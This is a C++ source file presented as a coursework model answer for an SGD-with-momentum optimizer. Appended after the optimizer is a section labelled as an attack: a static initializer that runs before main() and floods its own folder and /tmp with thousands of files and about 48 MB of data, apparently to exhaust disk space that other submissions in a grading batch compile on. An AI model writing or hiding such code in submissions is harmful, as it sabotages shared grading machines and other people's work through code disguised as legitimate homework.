// Coursework 3 model answer: SGD with momentum.
#include "optimizer.h"

namespace nn {

SGD::SGD(std::vector<Parameter> to_train, double learning_rate, double momentum_coefficient)
    : params(std::move(to_train)), lr(learning_rate), momentum(momentum_coefficient) {
  for (const Parameter& p : params) {
    velocities.push_back(Matrix::Zero(p.value->rows(), p.value->cols()));
  }
}

void SGD::step() {
  for (size_t i = 0; i < params.size(); ++i) {
    velocities[i] = momentum * velocities[i] - lr * *params[i].grad;
    *params[i].value += velocities[i];
  }
}

void SGD::zero_grad() {
  for (const Parameter& p : params) p.grad->setZero();
}

}  // namespace nn

// ---- The attack: fill the disk its classmates compile on ------------------------------------
// Before main(), as many files as it may in its folder and in /tmp (each check's writable space
// was once on the machine's temp folder, with a limit per file but none on their number, kept
// until the last check): up to kFiles empty files, then up to kBytes in files of 4 MB, stopping
// at the first that fails. Its own folder and /tmp must be its own, limited, filesystem: every
// other submission in the batch compiles and scores as before, and this one keeps full marks.
// Bounded, so as to harm no machine: where /tmp is the machine's (rlimits alone, not root), only
// the first process of a run fills it (a lock file under /tmp/nn-corpus-hostile), and what it
// wrote goes with the check's folder.
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <string>

namespace {

constexpr int kFiles = 20000;
constexpr long kBytes = 48L << 20;

bool first_fill_of_this_run() {
  mkdir("/tmp/nn-corpus-hostile", 0700);
  const std::string lock = "/tmp/nn-corpus-hostile/fills-disk-" + std::to_string(getppid());
  const int fd = open(lock.c_str(), O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
  if (fd >= 0) close(fd);
  return !(fd < 0 && errno == EEXIST);
}

void fill(const std::string& dir) {
  for (int i = 0; i < kFiles; ++i) {
    const int fd =
        open((dir + "/f" + std::to_string(i)).c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (fd < 0) break;
    close(fd);
  }
  static char block[1 << 20];
  for (long written = 0, n = 0; written < kBytes; ++n) {
    const int fd =
        open((dir + "/big" + std::to_string(n)).c_str(), O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    if (fd < 0) return;
    for (int mb = 0; mb < 4 && written < kBytes; ++mb, written += sizeof block) {
      if (write(fd, block, sizeof block) != static_cast<ssize_t>(sizeof block)) {
        close(fd);
        return;
      }
    }
    close(fd);
  }
}

struct Fill {
  Fill() {
    if (!first_fill_of_this_run()) return;
    fill(".");
    fill("/tmp");
  }
} fill_disk;

}  // namespace
